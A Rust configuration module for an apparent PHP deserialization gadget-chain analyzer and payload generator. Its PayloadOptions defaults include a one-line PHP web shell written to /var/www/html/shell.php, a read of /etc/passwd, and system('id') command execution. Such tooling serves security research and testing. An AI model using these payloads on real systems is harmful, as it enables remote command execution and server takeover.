use serde::{Deserialize, Serialize};

/// Knobs of one analysis run. Every field has a default so partial TOML
/// tables deserialize.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
#[serde(default)]
pub struct AnalysisOptions {
    /// Maximum number of steps in a chain, entry included.
    pub max_depth: usize,
    /// Stop searching once this many chains were recorded.
    pub max_chains: usize,
    /// Candidate classes tried per trigger template at each hop.
    pub max_branching: usize,
    /// Match magic method names ignoring ASCII case, as the PHP runtime does.
    pub case_insensitive_magic: bool,
    /// Skip payload synthesis.
    pub skip_payloads: bool,
    pub payload: PayloadOptions,
}

impl Default for AnalysisOptions {
    fn default() -> Self {
        Self {
            max_depth: 5,
            max_chains: 256,
            max_branching: 64,
            case_insensitive_magic: false,
            skip_payloads: false,
            payload: PayloadOptions::default(),
        }
    }
}

/// Concrete values planted into sink arguments and pivots.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
#[serde(default)]
pub struct PayloadOptions {
    pub command: String,
    pub php_code: String,
    pub write_path: String,
    pub write_content: String,
    pub read_path: String,
    pub callback: String,
    /// Method name that no gadget defines, used to reach `__call`.
    pub pivot_method: String,
}

impl Default for PayloadOptions {
    fn default() -> Self {
        Self {
            command: "id".into(),
            php_code: "system('id');".into(),
            write_path: "/var/www/html/shell.php".into(),
            write_content: "<?php system($_GET['cmd']); ?>".into(),
            read_path: "/etc/passwd".into(),
            callback: "system".into(),
            pivot_method: "popchain_pivot".into(),
        }
    }
}
